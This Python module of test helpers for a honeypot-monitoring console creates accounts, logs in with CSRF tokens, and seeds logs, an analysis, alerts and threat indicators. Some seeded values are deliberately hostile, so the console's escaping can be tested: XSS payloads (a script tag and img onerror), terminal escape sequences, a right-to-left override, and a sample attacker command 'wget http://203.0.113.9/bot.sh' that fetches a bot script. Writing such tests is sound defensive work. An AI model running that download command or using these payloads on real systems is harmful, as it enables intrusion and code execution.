"""Console helpers for tests: make accounts, log in over HTTP, read a page's CSRF token."""

from __future__ import annotations

import hashlib
import re
from datetime import UTC, datetime, timedelta

import httpx
from sqlalchemy import Engine, insert

from rbr_runtime.db.tables import (
    alerts,
    bucket_status_history,
    iocs,
    log_analysis,
    logs,
    technique_sightings,
)
from rbr_runtime.intel.indicators import key_sha256
from rbr_testing.operator_rows import alert_row

CSRF_INPUT = re.compile(r'name="csrf_token" value="([^"]+)"')
PASSWORD = "correct horse battery staple"


def add_user(engine: Engine, name: str, role: str, password: str = PASSWORD) -> None:
    """Creates a console account directly in the database."""
    from rbr_registrar.console.accounts import Accounts, Role  # noqa: PLC0415 - lazy

    Accounts(engine).add(name, password, Role(role))


def csrf_token(html: str) -> str:
    """Returns the first CSRF token of a page's forms."""
    found = CSRF_INPUT.search(html)
    assert found is not None, "the page has no form with a CSRF token"
    return found.group(1)


def login(client: httpx.Client, name: str, password: str = PASSWORD) -> httpx.Response:
    """Logs in through the login form; returns the answer to the POST (303 on success)."""
    form = client.get("/console/login")
    return client.post(
        "/console/login",
        data={"username": name, "password": password, "csrf_token": csrf_token(form.text)},
    )


def logged_in(client: httpx.Client, name: str, password: str = PASSWORD) -> str:
    """Logs in and returns the session's CSRF token (from the fleet page)."""
    answer = login(client, name, password)
    assert answer.status_code == 303, answer.text
    return csrf_token(client.get("/console/").text)


HOSTILE_LINE = (
    '<script>alert("x")</script><img src=x onerror=alert(1)>'
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\u202eevil\x00"
)
LONG_LINE_BYTES = 100_000


def seed_bucket(engine: Engine, bucket: str, *, now: datetime | None = None) -> None:
    """Gives a bucket what the console shows: polls, logs, an analysis and a firing alert.

    Some log records are hostile (markup, terminal escapes, a 100 kB line), and so is some
    model output, as an attacker would make them.
    """
    at = now or datetime.now(UTC)
    statuses = [
        {
            "bucket_id": bucket,
            "name": bucket,
            "polled_at": at - timedelta(minutes=5 * n),
            "reachable": n % 7 != 3,
            "error_class": None if n % 7 != 3 else "timeout",
            "latency_ms": 20.0 + n % 5 * 7,
        }
        for n in range(60)
    ]
    records = [
        {
            "name": bucket,
            "ip_address": "127.0.0.1",
            "log": f'{{"eventid": "cowrie.login.failed", "n": {n}}}',
            "log_size": 40,
            "created_at": at - timedelta(minutes=17 * n),
            "log_format": "cowrie",
            "event_type": "login_failed" if n % 3 else "command",
            "source_ip": f"198.51.100.{n % 9 + 1}",
            "username": "root" if n % 2 else "admin",
            "command": None if n % 3 else "wget http://203.0.113.9/bot.sh",
            "source_key": f"raw/{bucket}/a.log",
            "source_sha256": hashlib.sha256(bucket.encode()).hexdigest(),
            "record_no": n,
        }
        for n in range(120)
    ]
    records[1].update(log=HOSTILE_LINE, username=HOSTILE_LINE[:60], command=HOSTILE_LINE)
    records[2].update(log="A" * LONG_LINE_BYTES, log_size=LONG_LINE_BYTES)
    analysis = {
        "name": bucket,
        "ip_address": "127.0.0.1",
        "log_analysis": f"Brute force then a downloader. {HOSTILE_LINE}",
        "created_at": at,
        "window_start": at - timedelta(hours=4),
        "window_end": at,
        "analyser": "claude",
        "model": "claude-test",
        "severity": "high",
        "findings": [
            {
                "key": "downloader",
                "title": "Downloader fetched and ran a script",
                "severity": "high",
                "description": "wget then sh: a bot was installed.",
                "evidence": ["wget http://203.0.113.9/bot.sh", HOSTILE_LINE],
                "techniques": ["T1105"],
            }
        ],
        "iocs": [{"type": "url", "value": "http://203.0.113.9/bot.sh"}],
        "recommended_actions": ["Block 203.0.113.9 at the edge"],
        "log_rows": len(records),
    }
    alert = alert_row(
        f"alert-{bucket}",
        bucket=bucket,
        dedupe_key=f"finding:{bucket}:downloader",
        type="analysis_finding",
        title="Downloader fetched and ran a script",
        detail=f"The analysis found a downloader. {HOSTILE_LINE}",
        fired_at=at - timedelta(minutes=30),
        last_seen_at=at - timedelta(minutes=30),
        updated_at=at - timedelta(minutes=30),
    )
    with engine.begin() as connection:
        connection.execute(insert(bucket_status_history), statuses)
        connection.execute(insert(logs), records)
        connection.execute(insert(log_analysis), [analysis])
        connection.execute(insert(alerts), [alert])
    seed_intel(engine, bucket, now=at)


HOSTILE_AS = "<img src=x onerror=alert(2)>\x1b[31mAS666\u202e"
TECHNIQUES = (
    # technique, windows, findings, last seen hours ago
    ("T1110", 5, 9, 1),
    ("T1105", 2, 3, 2),
    ("T1059.004", 1, 1, 72),
)
INDICATORS = (
    # type, value, confidence, first seen and last seen hours ago, country, AS
    ("url", "http://203.0.113.9/bot.sh", 90, 3, 1, None, None),
    ("ip", "198.51.100.7", 80, 2, 1, "NL", HOSTILE_AS),
    ("ip", "198.51.100.8", 60, 5, 2, "NL", "Example Hosting"),
    ("command", HOSTILE_LINE, 40, 1, 1, None, None),
    ("ip", "192.0.2.44", 70, 240, 120, "US", "Example Cloud"),
    ("domain", "evil.example", 50, 480, 480, None, None),
)


def seed_intel(engine: Engine, bucket: str, *, now: datetime | None = None) -> None:
    """Gives the Intel page its rows: techniques a bucket saw, indicators (some hostile).

    Over 24 hours: techniques T1110 then T1105; 4 new indicators (the URL most confident);
    countries NL (2 addresses). Over 7 days also T1059.004 and US; over 30 days 6 new ones
    (192.0.2.44 was first seen 10 days ago, last 5 days ago).
    """
    at = now or datetime.now(UTC)
    hours = timedelta(hours=1)
    techniques = [
        {
            "name": name,
            "technique": technique,
            "first_seen": at - 100 * hours,
            "last_seen": at - ago * hours,
            "windows": windows,
            "findings": findings,
        }
        for technique, windows, findings, ago in TECHNIQUES
        for name in (bucket, "*")
    ]
    indicators: list[dict[str, object]] = [
        {
            "ioc_type": kind,
            "value": value,
            "key_sha256": key_sha256(kind, f"{bucket}:{value}"),
            "first_seen": at - first * hours,
            "last_seen": at - last * hours,
            "sightings": 1,
            "hits": 1,
            "bucket_count": 1,
            "buckets": [bucket],
            "techniques": ["T1105"],
            "roles": [],
            "confidence": confidence,
            "source": "rules",
            "source_rule": "download",
            "country": country,
            "as_org": as_org,
            "geo_source": None,
            "attributes": {},
            "updated_at": at - last * hours,
        }
        for kind, value, confidence, first, last, country, as_org in INDICATORS
    ]
    with engine.begin() as connection:
        connection.execute(insert(technique_sightings), techniques)
        connection.execute(insert(iocs), indicators)
